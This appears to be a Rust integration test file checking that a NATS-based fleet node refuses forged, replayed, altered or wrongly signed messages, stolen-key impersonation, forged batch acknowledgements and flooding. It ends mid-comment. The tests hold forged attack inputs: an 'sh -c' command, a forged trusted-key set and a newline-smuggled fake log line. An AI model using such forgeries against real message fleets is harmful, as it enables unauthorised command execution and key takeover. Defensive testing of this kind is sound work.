//! The attacker's side: a broker client holding no key any node trusts gets nothing. No
//! command run, no key installed, no output read, no node knocked over; and a fleet member
//! whose key was stolen can do no more than that member may.
//!
//! Every kind × method × claimed sender, unsigned, signed with a stranger's key, and real
//! messages captured and replayed (as they were, on other subjects, with other answer
//! subjects), from a raw NATS client on an open broker.

use crate::common;
use common::raw::{envelope, signed_by, signed_covering, Raw};
use common::{command, key_of, wait_until, NatsServer, Node};
use std::time::{Duration, Instant};
use steward::keys::Covers;

const KINDS: [&str; 4] = ["CommandACK", "CommandNACK", "EventACK", "EventNACK"];
/// Every method this build serves: a new one is in the matrix without anyone adding it.
fn methods() -> Vec<&'static str> {
    steward::methods::registry()
        .iter()
        .map(|m| m.name())
        .collect()
}
/// Whom a forgery claims to be: the central node, the target itself, a fleet member the
/// target trusts, and a name nobody knows.
const CLAIMS: [&str; 4] = ["central", "ship1", "ship2", "nobody"];

/// What a forgery asks `method` to do, leaving `marker` wherever it would land (an
/// HttpGet: a request to the web server on loopback port `web`).
fn data_for(method: &str, marker: &str, dir: &std::path::Path, web: u16) -> Vec<String> {
    match method {
        "CLICommand" => vec![
            "sh".into(),
            "-c".into(),
            format!("echo {marker} >> {}", dir.join("ran").display()),
        ],
        "TrustedKeys" => {
            let set = serde_json::json!({
                "issued": u64::MAX,
                "keys": { "central": [key_of("intruder")], "nobody": [key_of("intruder")] },
            });
            vec![set.to_string()]
        }
        "HttpGet" => vec![format!("http://127.0.0.1:{web}/{marker}")],
        _ => vec![format!("{marker}\n")],
    }
}

/// A forgery made to look like the result of a request ship1 sent: a file to write, and a
/// made-up ticket.
fn as_a_result(payload: Vec<u8>) -> Vec<u8> {
    let mut v: serde_json::Value = serde_json::from_slice(&payload).unwrap();
    v["directory"] = "m".into();
    v["fileName"] = "forged.txt".into();
    v["inReplyTo"] = serde_json::json!({
        "id": "ship1-0-0-made-up", "method": "CLICommand", "status": "ok",
        "ticket": "00".repeat(64),
    });
    serde_json::to_vec(&v).unwrap()
}

/// Every message `node` has refused, whatever the method.
fn refusals(node: &Node) -> f64 {
    node.metric_sum("steward_messages_received_total", &["outcome=\"refused\""])
}

/// Fails, saying where and what, if anything was answered.
fn unanswered(answered: &[nats::Message]) {
    if let Some(a) = answered.first() {
        let what: String = String::from_utf8_lossy(&a.data).chars().take(300).collect();
        panic!("answered on {}: {what}", a.subject);
    }
}

/// The subjects `node` subscribes to, from its process table.
fn listened(node: &Node) -> Vec<String> {
    node.status()
        .lines()
        .filter(|l| l.starts_with("subscriber "))
        .filter_map(|l| l.split_once("listening on "))
        .flat_map(|(_, subjects)| subjects.split(", ").map(str::to_string))
        .collect()
}

#[test]
fn no_kind_method_or_claimed_sender_gets_anything_from_a_client_without_a_trusted_key() {
    let nats = NatsServer::start();
    let ship1 = Node::start("ship1", &nats.address(), &[]);
    let central = Node::start("central", &nats.address(), &[]);
    let raw = Raw::connect(&nats.address());
    let target = tempfile::tempdir().unwrap();
    let marker = format!("forged-{}", steward::keys::random_hex128());
    // Where a forged HttpGet would connect: nothing may.
    let web = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    web.set_nonblocking(true).unwrap();
    let web_port = web.local_addr().unwrap().port();

    // Real messages to capture: a command and a key set from central, an event from ship2.
    let spy = raw.spy("ship1.>");
    central.append_inmsg(&command("ship1", &["echo", "genuine"]));
    let ship2 = Node::start("ship2", &nats.address(), &[]);
    ship2.append_inmsg(
        r#"[{"toNode":"ship1","data":["genuine event\n"],"commandOrEvent":"EventACK","method":"TextLogging"}]"#,
    );
    central.wait_for("replies/ship1.CLICommand.log", "genuine");
    ship1.wait_for("textlog/ship2.log", "genuine event");
    // Both passed the broker before their answers did: the broker queued them for the spy
    // before ship1 had them, so its answer to a PING sent now comes after them (the client
    // may not have read them yet: ship1's socket can be written to first).
    raw.conn.flush().unwrap();
    let mut captured = Vec::new();
    while let Some(m) = spy.try_next() {
        if !m.subject.ends_with(".Hello") && !m.subject.ends_with(".ErrorLog") {
            captured.push(m);
        }
    }
    assert!(captured.len() >= 2, "captured {}", captured.len());
    // Their genuine answers are not the attacker's doing: set aside once each has come (an
    // answer goes after the method's work the waits above saw, and one that came after a
    // look too early was counted as the attacker's).
    let genuine = std::cell::RefCell::new(std::collections::HashSet::new());
    common::wait_until("the genuine messages answered", || {
        let mut genuine = genuine.borrow_mut();
        genuine.extend(raw.answers_where(|_| true).into_iter().map(|m| m.subject));
        captured
            .iter()
            .filter_map(|m| m.reply.as_deref())
            .all(|reply| genuine.contains(reply))
    });
    let before = ship1.read("journal/received.log").len();
    let refusals_before = refusals(&ship1);
    // What reaches ship1 at all: the subjects it listens on.
    let listens = listened(&ship1);
    let mut reaching = 0;
    // The `names-their-key` forgeries that reach ship1 under a key it trusts for their
    // claimed sender: each is to be refused by the signature's arithmetic, not before.
    let mut their_key = Vec::new();

    let mut sent = 0;
    for kind in KINDS {
        for method in methods() {
            for from in CLAIMS {
                let subject = format!("ship1.{kind}.{method}");
                let data = data_for(method, &marker, target.path(), web_port);
                let data: Vec<&str> = data.iter().map(String::as_str).collect();
                for (variant, signer, covers) in [
                    ("unsigned", None, Covers::Payload),
                    ("self-signed", Some("intruder"), Covers::Payload),
                    ("self-signed-digest", Some("intruder"), Covers::Digest),
                    // Naming the key ship1 trusts for the claimed sender, over a signature
                    // of the intruder's: past the key's name, refused by the arithmetic
                    // itself (for a claimed sender ship1 knows, on a subject it serves),
                    // on threads that may keep that key decoded (the genuine messages
                    // above were checked against central's and ship2's).
                    ("names-their-key", Some("intruder"), Covers::Payload),
                ] {
                    let id = format!("{marker}-{sent}");
                    let payload = as_a_result(envelope(&id, from, "ship1", kind, method, &data));
                    let reply = format!("_INBOX.{from}.hostile.{variant}.{sent}");
                    let sign = |s, payload: &[u8]| {
                        let mut headers =
                            signed_covering(s, &subject, Some(&reply), payload, covers);
                        if variant == "names-their-key" {
                            headers.insert(steward::keys::KEY, key_of(from));
                        }
                        headers
                    };
                    let headers = signer.map(|s| sign(s, &payload));
                    raw.send(&subject, Some(&reply), headers.as_ref(), &payload);
                    // A batch of the same, for the events that travel in batches.
                    let batch = format!("[{}]", String::from_utf8_lossy(&payload));
                    let headers = signer.map(|s| sign(s, batch.as_bytes()));
                    raw.send(&subject, Some(&reply), headers.as_ref(), batch.as_bytes());
                    sent += 2;
                    reaching += 2 * usize::from(listens.contains(&subject));
                    if variant == "names-their-key"
                        && from != "nobody"
                        && listens.contains(&subject)
                    {
                        their_key.push((id, from));
                    }
                }
            }
        }
    }
    // Captured real messages, replayed: as they were, on every other subject of their
    // method, and answered to the attacker instead.
    let mut replayed = 0;
    for m in &captured {
        let method = m.subject.rsplit('.').next().unwrap();
        for kind in KINDS {
            let subject = format!("ship1.{kind}.{method}");
            raw.send(&subject, m.reply.as_deref(), m.headers.as_ref(), &m.data);
            raw.send(
                &subject,
                Some("_INBOX.nobody.hostile.replay"),
                m.headers.as_ref(),
                &m.data,
            );
            replayed += 2;
            reaching += 2 * usize::from(listens.contains(&subject));
        }
    }

    // Every one that reached ship1 refused, and handled to the end.
    ship1.wait_metric(
        "refused every forgery and replay it listens for",
        refusals,
        |v| v >= refusals_before + reaching as f64,
    );
    ship1.wait_idle();
    let refused = (refusals(&ship1) - refusals_before) as usize;
    assert!(!their_key.is_empty());
    let by_the_arithmetic = |(id, from): &(String, &str)| {
        format!("(id {id}): the signature does not verify against {from}'s key")
    };
    // Logged just after it is counted: looked for until every line is there.
    common::wait_until("each refused by its signature, in the log", || {
        let log = ship1.log();
        their_key
            .iter()
            .all(|f| log.contains(&by_the_arithmetic(f)))
    });
    // Any answer at all now, on the attacker's inboxes or the captured messages' own.
    let answers = raw.answers_where(|s| {
        s.contains(".hostile.") || captured.iter().any(|m| m.reply.as_deref() == Some(s))
    });
    eprintln!(
        "[hostile] forged={sent} replayed={replayed} refused_on_ship1={refused} refused_by_the_arithmetic_under_a_trusted_key={} answered={} ran={}",
        their_key.len(),
        answers.len(),
        target.path().join("ran").exists()
    );
    assert!(!target.path().join("ran").exists(), "a forged command ran");
    assert!(
        matches!(web.accept(), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock),
        "a forged HttpGet fetched"
    );
    assert!(answers.is_empty(), "answered: {:?}", answers[0].subject);
    assert!(
        !ship1.path("keys/distributed.json").exists(),
        "a forged key set was installed"
    );
    for file in ["textlog/nobody.log", "textlog/central.log", "errors.log"] {
        assert!(!ship1.read(file).contains(&marker), "{file} took a forgery");
    }
    assert!(!ship1.read("textlog/ship2.log").contains(&marker));
    assert!(!ship1.read("hello-nodes.json").contains("nobody"));
    assert!(!ship1.path("m").exists(), "a forged result wrote a file");
    // Nothing about them was recorded for later either.
    let after = ship1.read("journal/received.log");
    assert!(!after.contains(&marker), "a forged id was recorded");
    assert!(after.len() >= before);
    // Still connected, never reconnected, still serving central.
    assert_eq!(ship1.metric("steward_broker_connected"), 1.0);
    assert_eq!(ship1.metric("steward_broker_reconnects_total"), 0.0);
    central.append_inmsg(&command("ship1", &["echo", "still at your service"]));
    central.wait_for("replies/ship1.CLICommand.log", "still at your service");
    // Each that reached ship1 was refused once, and counted there (some subjects it does
    // not even listen to: a command method's event subjects).
    assert_eq!(
        refused, reaching,
        "of {sent} forged and {replayed} replayed"
    );
}

#[test]
fn a_message_id_of_central_s_gets_no_one_else_its_reply() {
    let nats = NatsServer::start();
    let ship1 = Node::start("ship1", &nats.address(), &[]);
    let central = Node::start("central", &nats.address(), &[]);
    let raw = Raw::connect(&nats.address());
    let spy = raw.spy("ship1.CommandACK.CLICommand");
    central.append_inmsg(&command("ship1", &["echo", "secret-output"]));
    let captured = spy.next_timeout(Duration::from_secs(10)).unwrap();
    central.wait_for("replies/ship1.CLICommand.log", "secret-output");
    let id = serde_json::from_slice::<serde_json::Value>(&captured.data).unwrap()["id"]
        .as_str()
        .unwrap()
        .to_string();
    // Unguessable: 128 random bits in every id.
    let random = id.rsplit('-').next().unwrap();
    assert!(
        random.len() == 32 && random.chars().all(|c| c.is_ascii_hexdigit()),
        "{id}"
    );

    // A stranger asking with central's id, unsigned, as central or as itself: nothing.
    let refused = ship1.refused("TextLogging") as usize;
    for from in ["central", "nobody"] {
        let event = envelope(&id, from, "ship1", "EventACK", "TextLogging", &["x\n"]);
        let reply = format!("_INBOX.{from}.steal");
        raw.send("ship1.EventACK.TextLogging", Some(&reply), None, &event);
    }
    ship1.wait_refused("TextLogging", refused + 2);
    assert!(
        raw.answers_where(|s| s.ends_with(".steal")).is_empty(),
        "answered an unsigned request"
    );
    // A fleet member (ship2's key, stolen) asking with central's id gets its own event's
    // reply, never central's stored output.
    let event = envelope(&id, "ship2", "ship1", "EventACK", "TextLogging", &["x\n"]);
    let reply = "_INBOX.ship2.steal";
    let h = signed_by("ship2", "ship1.EventACK.TextLogging", Some(reply), &event);
    let got = raw
        .ask(
            "ship1.EventACK.TextLogging",
            reply,
            Some(&h),
            &event,
            Duration::from_secs(5),
        )
        .expect("a verified event is answered");
    let text = String::from_utf8_lossy(&got.data);
    assert!(!text.contains("secret-output"), "{text}");
    assert!(text.contains("\"status\":\"ok\""), "{text}");
}

/// `ReplyAgain` answers from ship1's record of what it received, so it is asked as a
/// thief would: central's message id, unsigned, signed by a stranger, by a stolen fleet key,
/// central's own signed command replayed onto its subject, and central's key asking for an
/// answer on another node's inbox. Only central, on its own inbox, gets central's reply.
#[test]
fn a_reply_asked_for_again_goes_only_to_the_sender_of_its_message() {
    let nats = NatsServer::start();
    let ship1 = Node::start("ship1", &nats.address(), &[]);
    let central = Node::start("central", &nats.address(), &[]);
    let raw = Raw::connect(&nats.address());
    let spy = raw.spy("ship1.CommandACK.CLICommand");
    central.append_inmsg(&command("ship1", &["echo", "secret-output"]));
    let captured = spy.next_timeout(Duration::from_secs(10)).unwrap();
    central.wait_for("replies/ship1.CLICommand.log", "secret-output");
    let id = serde_json::from_slice::<serde_json::Value>(&captured.data).unwrap()["id"]
        .as_str()
        .unwrap()
        .to_string();
    let subject = "ship1.CommandACK.ReplyAgain";
    let ask = |from: &str| envelope(&id, from, "ship1", "CommandACK", "ReplyAgain", &[]);
    let refused = ship1.refused("ReplyAgain") as usize;
    // Unsigned, as central and as itself; signed by a stranger; central's signed command
    // replayed onto this subject (its signature names the subject it was sent on).
    for from in ["central", "nobody"] {
        raw.send(
            subject,
            Some(&format!("_INBOX.{from}.steal")),
            None,
            &ask(from),
        );
    }
    // One payload each: an envelope is stamped with the time it is made.
    let as_central = ask("central");
    let h = signed_by(
        "intruder",
        subject,
        Some("_INBOX.central.steal"),
        &as_central,
    );
    raw.send(subject, Some("_INBOX.central.steal"), Some(&h), &as_central);
    raw.send(
        subject,
        Some("_INBOX.central.steal"),
        captured.headers.as_ref(),
        &captured.data,
    );
    // Central's own key, the answer asked for on ship2's inbox.
    let h = signed_by("central", subject, Some("_INBOX.ship2.steal"), &as_central);
    raw.send(subject, Some("_INBOX.ship2.steal"), Some(&h), &as_central);
    ship1.wait_refused("ReplyAgain", refused + 5);
    // A fleet member (ship2's key, stolen) asking with central's id, on its own inbox: its
    // own messages only, and it sent none with that id: no answer.
    let as_ship2 = ask("ship2");
    let h = signed_by("ship2", subject, Some("_INBOX.ship2.steal"), &as_ship2);
    raw.send(subject, Some("_INBOX.ship2.steal"), Some(&h), &as_ship2);
    let unknown = format!("{id} from ship2 is not known here");
    wait_until("ship1 said it knows no such message of ship2's", || {
        ship1.log().contains(&unknown)
    });
    // Central itself, on its own inbox: its stored reply, signed by ship1 over the ask.
    let reply = "_INBOX.central.asked.again";
    let as_central = ask("central");
    let h = signed_by("central", subject, Some(reply), &as_central);
    let got = raw
        .ask(
            subject,
            reply,
            Some(&h),
            &as_central,
            Duration::from_secs(5),
        )
        .expect("central's own ask is answered");
    let text = String::from_utf8_lossy(&got.data);
    assert!(text.contains("secret-output"), "{text}");
    assert!(got.headers.is_some(), "an answer is signed");
    let stolen = raw.answers_where(|s| s.ends_with(".steal"));
    unanswered(&stolen);
    // Nothing ran again, nothing was recorded for the asks.
    let replies = central.read("replies/ship1.CLICommand.log");
    assert_eq!(replies.matches("secret-output").count(), 1, "{replies}");
    assert_eq!(ship1.metric("steward_broker_reconnects_total"), 0.0);
}

#[test]
fn a_stolen_fleet_key_cannot_pose_as_central_nor_use_a_node_as_its_deputy() {
    let nats = NatsServer::start();
    let ship1 = Node::start("ship1", &nats.address(), &[]);
    let _central = Node::start("central", &nats.address(), &[]);
    let raw = Raw::connect(&nats.address());
    let elsewhere = raw.spy("ship3.>");
    let target = tempfile::tempdir().unwrap();
    let run = format!("echo ran >> {}", target.path().join("ran").display());
    let ask = |subject: &str, reply: &str, payload: &[u8]| {
        let h = signed_by("ship2", subject, Some(reply), payload);
        raw.ask(subject, reply, Some(&h), payload, Duration::from_secs(2))
            .map(|m| String::from_utf8_lossy(&m.data).to_string())
    };

    // Commands: ship2 is not in ship1's allow-list. It proved who it is, so it is told.
    let cmd = envelope(
        "s-1",
        "ship2",
        "ship1",
        "CommandACK",
        "CLICommand",
        &["sh", "-c", &run],
    );
    let said = ask("ship1.CommandACK.CLICommand", "_INBOX.ship2.a", &cmd).unwrap();
    assert!(
        said.contains("ship2 may not call CLICommand here"),
        "{said}"
    );
    // Keys: only from central, even signed.
    let set = data_for("TrustedKeys", "", target.path(), 0);
    let keys = envelope(
        "s-2",
        "ship2",
        "ship1",
        "CommandACK",
        "TrustedKeys",
        &[&set[0]],
    );
    let said = ask("ship1.CommandACK.TrustedKeys", "_INBOX.ship2.b", &keys).unwrap();
    assert!(said.contains("only the central node"), "{said}");
    // Posing as central with ship2's key: nothing.
    let send = |subject: &str, reply: &str, payload: &[u8]| {
        let h = signed_by("ship2", subject, Some(reply), payload);
        raw.send(subject, Some(reply), Some(&h), payload);
    };
    let cmd = envelope(
        "s-3",
        "central",
        "ship1",
        "CommandACK",
        "CLICommand",
        &["sh", "-c", &run],
    );
    let refused = ship1.refused("CLICommand") as usize;
    send("ship1.CommandACK.CLICommand", "_INBOX.central.c", &cmd);
    ship1.wait_refused("CLICommand", refused + 1);
    assert!(ship1.log().contains("not trusted for central"));
    // Answers only on ship2's own inbox: not central's, not another node's subject.
    let event = envelope("s-4", "ship2", "ship1", "EventACK", "TextLogging", &["x\n"]);
    let refused = ship1.refused("TextLogging") as usize;
    let wrong = [
        "_INBOX.central.d",
        "ship3.CommandACK.CLICommand",
        "_INBOX.ship2",
    ];
    for reply in wrong {
        send("ship1.EventACK.TextLogging", reply, &event);
    }
    ship1.wait_refused("TextLogging", refused + wrong.len());
    assert!(ship1.log().contains("not to ship2's own inbox"));
    unanswered(&raw.answers_where(|s| s == "_INBOX.central.c" || wrong.contains(&s)));
    assert!(elsewhere.try_next().is_none());
    assert!(!target.path().join("ran").exists());
    assert!(!ship1.path("keys/distributed.json").exists());
}

#[test]
fn strangers_cost_a_node_no_memory_no_disk_and_no_metric_labels() {
    let nats = NatsServer::start();
    let central = Node::start("central", &nats.address(), &[]);
    let raw = Raw::connect(&nats.address());
    let stranger = |i: usize| {
        for (kind, method) in [("EventACK", "TextLogging"), ("EventNACK", "Hello")] {
            let name = format!("stranger{i}");
            let subject = format!("central.{kind}.{method}");
            let id = format!("strangerid-{i}");
            let payload = envelope(&id, &name, "central", kind, method, &["hi\n"]);
            let h = signed_by(&name, &subject, None, &payload);
            raw.send(
                &subject,
                Some(&format!("_INBOX.{name}.x")),
                Some(&h),
                &payload,
            );
        }
    };
    // Warm up (a first stranger refused, end to end), then measure.
    stranger(0);
    central.wait_metric("refused the first stranger", refusals, |v| v >= 2.0);
    central.wait_idle();
    let rss_before = central.rss_kib();
    let n = 3000;
    for i in 1..=n {
        stranger(i);
    }
    // Each was refused, or dropped unread while the handlers were busy (counted).
    let dropped = || central.metric_sum("steward_subscription_dropped_total", &[]);
    let deadline = Instant::now() + Duration::from_secs(60);
    while refusals(&central) + dropped() < 2.0 * (n + 1) as f64 {
        assert!(Instant::now() < deadline, "not all refused or dropped");
        std::thread::sleep(Duration::from_millis(100));
    }
    let rss_after = central.rss_kib();
    let grew = rss_after.saturating_sub(rss_before);
    eprintln!(
        "[strangers] events={} rss_before_kib={rss_before} grew_kib={grew}",
        2 * n
    );
    assert!(grew < 4096, "RSS grew {grew} KiB");
    assert!(!central.read("journal/received.log").contains("strangerid-"));
    assert!(!central.path("textlog").exists());
    assert!(!central.read("hello-nodes.json").contains("stranger"));
    let metrics = central.metrics();
    assert!(!metrics.contains("stranger"), "a metric label per stranger");
}

#[test]
fn a_node_a_month_behind_takes_central_s_new_command_and_still_refuses_a_replay() {
    // libfaketime preloaded into steward itself (the `faketime` program would stand
    // between the test and the node: a signal to it does not reach steward).
    let preload = format!("LD_PRELOAD={}", common::libfaketime().display());
    let nats = NatsServer::start();
    // ship1 is a Pi that booted with the time it saved a month ago, at sea: no NTP.
    // (Monotonic time left alone: a fresh machine has been up for less than a month.)
    let month_behind = [
        "env",
        &preload,
        "FAKETIME=-30d",
        "FAKETIME_DONT_FAKE_MONOTONIC=1",
    ];
    let mut ship1 = Node::start_under(
        &month_behind,
        "ship1",
        &nats.address(),
        &["--clockCheck=off"],
    );
    let central = Node::start("central", &nats.address(), &[]);
    let raw = Raw::connect(&nats.address());
    let spy = raw.spy("ship1.CommandACK.CLICommand");
    let run = format!("echo run >> {}", ship1.path("runs").display());
    let argv = ["sh", "-c", &run];
    central.append_inmsg(&command("ship1", &argv));
    let captured = spy.next_timeout(Duration::from_secs(10)).unwrap();
    central.wait_for("replies/ship1.CLICommand.log", "status=Ok");
    let replay = || raw.replay(&captured);
    replay();
    ship1.wait_refused("CLICommand", 1);
    assert!(ship1.log().contains("a replay"), "{}", ship1.log());
    // Across a restart too (what was taken is kept).
    ship1.terminate();
    ship1.restart();
    replay();
    ship1.wait_refused("CLICommand", 1); // counted afresh since the restart
    assert!(
        ship1.log().matches("a replay").count() >= 2,
        "{}",
        ship1.log()
    );
    central.append_inmsg(&command("ship1", &argv));
    central.wait_count("replies/ship1.CLICommand.log", "status=Ok", 2);
    // Its clock really was a month behind (its log's timestamps say so).
    let month_ago = steward::files::rfc3339(steward::files::unix_millis() - 30 * 86_400_000);
    assert!(
        ship1.log().contains(&month_ago[..10]),
        "ship1's clock was not set back"
    );
    let runs = ship1.read("runs").lines().count();
    eprintln!("[clock] behind=30d commands=2 replays=2 runs={runs}");
    assert_eq!(runs, 2);
}

/// The inbox's file lease makes the kernel send SIGIO when another process opens a taken
/// inmsg.txt at the wrong moment; by default SIGIO ends a process. The node ignores it.
#[test]
fn sigio_does_not_stop_a_node() {
    let nats = NatsServer::start();
    let mut ship1 = Node::start("ship1", &nats.address(), &[]);
    let central = Node::start("central", &nats.address(), &[]);
    ship1.signal(libc::SIGIO);
    // It answers after the signal: it ran on, and had the signal been its end, it would
    // have met it first.
    ship1.wait_status("answered after the signal", |t| t.starts_with("node ship1"));
    assert!(ship1.is_running(), "SIGIO stopped ship1:\n{}", ship1.log());
    central.append_inmsg(&command("ship1", &["echo", "still here"]));
    central.wait_for("replies/ship1.CLICommand.log", "still here");
}

/// A batch's answer says how many messages its receiver takes (`batchMax`): only a reply
/// signed by a key trusted for the destination counts. A raw client with no trusted key
/// answers central's batches for ship1, unsigned and signed with its own key, saying it
/// takes 1,024 and checks signatures over a digest: no batch over 256 goes, none signed
/// over its digest, nothing counts as ACKed; then the real ship1 comes and every event
/// arrives once, in order.
#[test]
fn a_forged_batch_answer_cannot_make_a_sender_send_bigger_batches() {
    let nats = NatsServer::start();
    let central = Node::start("central", &nats.address(), &["--defaultMessageTimeout=2"]);
    let raw = Raw::connect(&nats.address());
    let sub = raw.spy("ship1.EventACK.TextLogging");
    let intruder = steward::keys::Identity::from_seed(&common::seed_of("intruder")).unwrap();
    let n = 1500;
    central.append_inmsg(&common::text_logs("ship1", 0..n, "f-"));
    let mut sizes = Vec::new();
    // Batches signed over their digest: for a receiver that said it checks those.
    let mut over_digest = 0;
    let until = Instant::now() + Duration::from_secs(6);
    while Instant::now() < until {
        let Ok(m) = sub.next_timeout(Duration::from_millis(200)) else {
            continue;
        };
        let v: serde_json::Value = serde_json::from_slice(&m.data).unwrap();
        let envelopes = v.as_array().cloned().unwrap_or_else(|| vec![v.clone()]);
        sizes.push(envelopes.len());
        over_digest += usize::from(
            m.headers
                .as_ref()
                .is_some_and(|h| h.get(steward::keys::DIGEST).is_some()),
        );
        let replies: Vec<serde_json::Value> = envelopes
            .iter()
            .map(|e| {
                serde_json::json!({"id": e["id"], "fromNode": "ship1", "toNode": "central",
                    "status": "ok", "output": "", "batchMax": 1024, "digestSig": true})
            })
            .collect();
        let payload = match v.is_array() {
            true => serde_json::to_vec(&replies).unwrap(),
            false => serde_json::to_vec(&replies[0]).unwrap(),
        };
        let to = m.reply.as_deref().unwrap();
        let sig = m.headers.as_ref().unwrap().get(steward::keys::SIG).unwrap();
        // Every other answer unsigned, the rest signed with the intruder's own key.
        let headers = (sizes.len() % 2 == 0).then(|| {
            intruder
                .seal(steward::keys::Scope::reply(to, sig), &payload)
                .headers
        });
        raw.send(to, None, headers.as_ref(), &payload);
    }
    assert!(!sizes.is_empty());
    assert!(sizes.iter().all(|&s| s <= 256), "{sizes:?}");
    assert_eq!(
        over_digest, 0,
        "a forged answer changed how batches are signed"
    );
    let acked = "steward_messages_acked_total{method=\"TextLogging\"}";
    assert_eq!(central.metric(acked), 0.0, "a forged answer counted");
    // The real ship1: everything, once, in order.
    let ship1 = Node::start("ship1", &nats.address(), &[]);
    let log = ship1.wait_lines("textlog/central.log", n);
    let want: Vec<String> = (0..n).map(|i| format!("f-{i}")).collect();
    assert_eq!(log.lines().collect::<Vec<_>>(), want);
    assert!(!central.read("replies/ship1.TextLogging.log").is_empty());
}

/// A real batch signed over its digest, captured from the broker: replayed as it was, to
/// its own reply subject and to the attacker's, moved to the other kinds' subjects, or
/// altered under the same headers (an event changed, one dropped): each refused by ship1,
/// none answered; every real event logged once, in order.
#[test]
fn a_captured_batch_signed_over_its_digest_cannot_be_replayed_moved_or_altered() {
    let nats = NatsServer::start();
    let ship1 = Node::start("ship1", &nats.address(), &[]);
    let central = Node::start("central", &nats.address(), &[]);
    let raw = Raw::connect(&nats.address());
    let spy = raw.spy("ship1.EventACK.TextLogging");
    let n = 3000;
    central.append_inmsg(&common::text_logs("ship1", 0..n, "d-"));
    ship1.wait_lines("textlog/central.log", n);
    let mut captured = None;
    while let Ok(m) = spy.next_timeout(Duration::from_millis(500)) {
        let digest = m
            .headers
            .as_ref()
            .and_then(|h| h.get(steward::keys::DIGEST));
        if digest.is_some() && captured.is_none() {
            captured = Some(m);
        }
    }
    let m = captured.expect("no batch signed over its digest went");
    raw.answers_where(|_| false);
    let before = refusals(&ship1);
    let subject = "ship1.EventACK.TextLogging";
    let mut sent = 0;
    let mut send = |subject: &str, reply: &str, data: &[u8]| {
        raw.send(subject, Some(reply), m.headers.as_ref(), data);
        sent += 1;
    };
    let own = m.reply.as_deref().unwrap();
    send(subject, own, &m.data);
    send(subject, "_INBOX.intruder.hostile.replay", &m.data);
    for kind in ["EventNACK", "CommandACK", "CommandNACK"] {
        send(&format!("ship1.{kind}.TextLogging"), own, &m.data);
    }
    let text = String::from_utf8(m.data.clone()).unwrap();
    let changed = text.replacen("d-", "X-", 1);
    send(subject, own, changed.as_bytes());
    let mut fewer: Vec<serde_json::Value> = serde_json::from_str(&text).unwrap();
    let size = fewer.len();
    fewer.pop();
    send(subject, own, &serde_json::to_vec(&fewer).unwrap());
    // Each one that reaches ship1 (it does not listen for TextLogging commands) refused,
    // each of its events counted.
    let listens = listened(&ship1);
    let reaching = 4 + usize::from(listens.iter().any(|s| s == "ship1.EventNACK.TextLogging"));
    let refused = (reaching - 1) * size + size - 1;
    ship1.wait_metric("refused each", refusals, |v| v >= before + refused as f64);
    ship1.wait_idle();
    // (The broker's own "no responders" on a subject nobody listens to is not an answer.)
    let answered: Vec<_> = raw
        .answers_where(|s| s == own || s.contains(".hostile."))
        .into_iter()
        .filter(|a| !a.data.is_empty())
        .collect();
    unanswered(&answered);
    assert_eq!((refusals(&ship1) - before) as usize, refused, "of {sent}");
    let log = ship1.read("textlog/central.log");
    let want: Vec<String> = (0..n).map(|i| format!("d-{i}")).collect();
    assert_eq!(log.lines().collect::<Vec<_>>(), want);
    eprintln!(
        "[hostile_digest] batch_of={size} replayed_moved_altered={sent} reaching={reaching} events_refused={refused} answered=0 logged_once={n}"
    );
}

#[test]
fn a_fleet_key_cannot_make_central_journal_and_send_results_of_its_own() {
    let nats = NatsServer::start();
    let central = Node::start("central", &nats.address(), &[]);
    let raw = Raw::connect(&nats.address());
    // A result of central's would go to ship2's method subject: nothing may come.
    let results = raw.spy("ship2.>");
    // Results for ship2's Console (central journals its own error reports meanwhile).
    let accepted = || central.metric("steward_messages_accepted_total{method=\"Console\"}");
    let before = (accepted(), refusals(&central));
    // ship2's key, stolen: every kind of every method central listens on, alone and in a
    // batch, each asking for its result as a message of its own, to a method ship2 never
    // answers, with 250 KB of arguments and a time to live of three thousand years (each
    // would be journaled and sent again every minute, outside the log budget and the
    // free-space floor).
    let big = "x".repeat(250_000);
    let listening = listened(&central);
    let mut sent = 0;
    for method in methods() {
        for kind in KINDS {
            let subject = format!("central.{kind}.{method}");
            if !listening.contains(&subject) {
                continue;
            }
            let asking = |id: String| {
                let plain = envelope(&id, "ship2", "central", kind, method, &["x\n"]);
                let mut v: serde_json::Value = serde_json::from_slice(&plain).unwrap();
                v["replyMethod"] = "Console".into();
                v["replyMethodArgs"] = serde_json::json!([big]);
                v["ttl"] = 99_999_999_999u64.into();
                v
            };
            // Alone, and two in a batch.
            let alone = serde_json::to_vec(&asking(format!("r-{sent}"))).unwrap();
            let batch = serde_json::to_vec(&serde_json::json!([
                asking(format!("r-{sent}-a")),
                asking(format!("r-{sent}-b")),
            ]))
            .unwrap();
            for payload in [alone, batch] {
                let reply = format!("_INBOX.ship2.r{sent}");
                let h = signed_by("ship2", &subject, Some(&reply), &payload);
                raw.send(&subject, Some(&reply), Some(&h), &payload);
                sent += 1;
            }
        }
    }
    assert!(sent >= 8, "central listens on {listening:?}");
    central.wait_metric(&format!("{sent} refused"), refusals, |v| {
        v >= before.1 + sent as f64
    });
    central.wait_idle();
    std::thread::sleep(Duration::from_millis(500));
    assert_eq!(accepted(), before.0, "central journaled a result for ship2");
    assert!(results.try_next().is_none(), "central sent ship2 something");
    // Told why where it is answered (a verified sender): a fleet method's own result route.
    let answers: Vec<String> = raw
        .answers_where(|s| s.starts_with("_INBOX.ship2.r"))
        .iter()
        .map(|m| String::from_utf8_lossy(&m.data).into_owned())
        .collect();
    assert!(
        answers
            .iter()
            .any(|a| a.contains("ship2 may not ask TextLogging here for a result of its own")),
        "{answers:?}"
    );
}

#[test]
fn a_stranger_s_huge_or_line_breaking_fields_make_one_bounded_line_each() {
    let nats = NatsServer::start();
    let central = Node::start("central", &nats.address(), &[]);
    let ship1 = Node::start("ship1", &nats.address(), &[]);
    central.trust("ship1");
    let raw = Raw::connect(&nats.address());
    // A name of 300 kB: its refusal quoted it whole, a report too large to be sent, and
    // each report of that a larger one.
    let huge = "a".repeat(300_000);
    let payload = envelope("a", &huge, "ship1", "EventACK", "TextLogging", &["hi"]);
    raw.send("ship1.EventACK.TextLogging", None, None, &payload);
    // A kind holding a line of a log of its own.
    let forged = r#"{"id":"b","fromNode":"x","accepted":0,"toNode":"ship1","data":[],"commandOrEvent":"x\n[2030-01-01T00:00:00Z ERROR steward] forged","method":"TextLogging"}"#;
    raw.send("ship1.EventACK.TextLogging", None, None, forged.as_bytes());
    ship1.wait_metric("refused both", refusals, |v| v >= 2.0);
    // Both reports reach central's errors.log, a line each. (Counted by what each line says
